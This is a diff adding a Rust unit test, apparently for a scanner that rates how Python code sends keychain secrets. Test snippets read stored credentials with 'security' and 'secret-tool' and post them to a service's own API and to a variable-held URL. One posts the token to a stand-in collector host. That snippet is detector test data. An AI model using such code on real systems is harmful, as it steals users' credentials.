@@ -146,6 +146,29 @@ fn keychain_and_browser_profile() {
     assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
 }
 
+/// A keychain item named for a service and sent to that service is its use; to an address
+/// a variable holds, in a file whose URLs are that service's, a medium; elsewhere theft.
+#[test]
+fn a_keychain_item_sent_to_its_own_service() {
+    let v = py("import subprocess, requests\n\
+        k = subprocess.check_output(['security', 'find-generic-password', '-s', 'linear-cli', '-w'])\n\
+        requests.post('https://api.linear.app/graphql', headers={'Authorization': k})\n");
+    assert!(v.is_empty(), "{v:?}");
+    let v = py("import subprocess, urllib.request\n\
+        BASE = 'https://app.codealive.ai'\n\
+        def key():\n    return subprocess.run(['secret-tool', 'lookup', 'service', 'codealive-api-key'], capture_output=True).stdout\n\
+        def call(base):\n    return urllib.request.urlopen(urllib.request.Request(base + '/api', headers={'Authorization': key()}))\n");
+    assert!(
+        !v.is_empty() && v.iter().all(|f| f.1 == Severity::Medium),
+        "{v:?}"
+    );
+    assert!(v[0].2.contains("own service"), "{}", v[0].2);
+    let v = py("import subprocess, requests\n\
+        k = subprocess.check_output(['security', 'find-generic-password', '-s', 'linear-cli', '-w'])\n\
+        requests.post('https://collect.example', data=k)\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
+}
+
 #[test]
 fn dotenv_found_by_glob_and_dns_and_smtp_and_curl() {
     let v = py("import glob, socket\n\
